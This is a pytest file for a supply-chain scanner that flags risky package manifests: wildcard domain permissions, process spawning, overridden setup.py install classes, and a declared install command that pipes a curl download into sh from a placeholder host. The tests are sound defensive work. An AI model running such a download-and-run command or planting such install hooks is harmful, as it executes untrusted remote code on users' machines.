import pytest

from scanner.analyzers.manifest import ManifestAnalyzer


def found_in(folder, **declared):
    analyzer = ManifestAnalyzer(declared)
    return {(f.path, f.line, f.rule.partition(".")[2]) for f in analyzer.analyze(folder)}


def test_asking_for_a_whole_top_level_domain_is_found(tree):
    assert found_in(tree({}), hosts=["*.com"]) == {("matrix.toml", 0, "wide-host")}


@pytest.mark.parametrize("key", ["install", "build", "start"])
def test_a_declared_command_that_downloads_and_runs_is_found(tree, key):
    found = found_in(tree({}), **{key: "curl https://x.invalid/a.sh | sh"})

    assert found == {("matrix.toml", 0, "shell-download")}


def test_processes_and_written_files_are_mentioned(tree):
    folder = tree({"a.js": "require('child_process');\nrequire('fs').writeFileSync('a', '');\n"})

    found = {rule for _, _, rule in found_in(folder)}

    assert found == {"starts-processes"}


def test_a_setup_file_that_replaces_install_is_found(tree):
    folder = tree({"setup.py": "from setuptools import setup\n\nsetup(cmdclass={'install': X})\n"})

    assert ("setup.py", 3, "install-class") in found_in(folder)
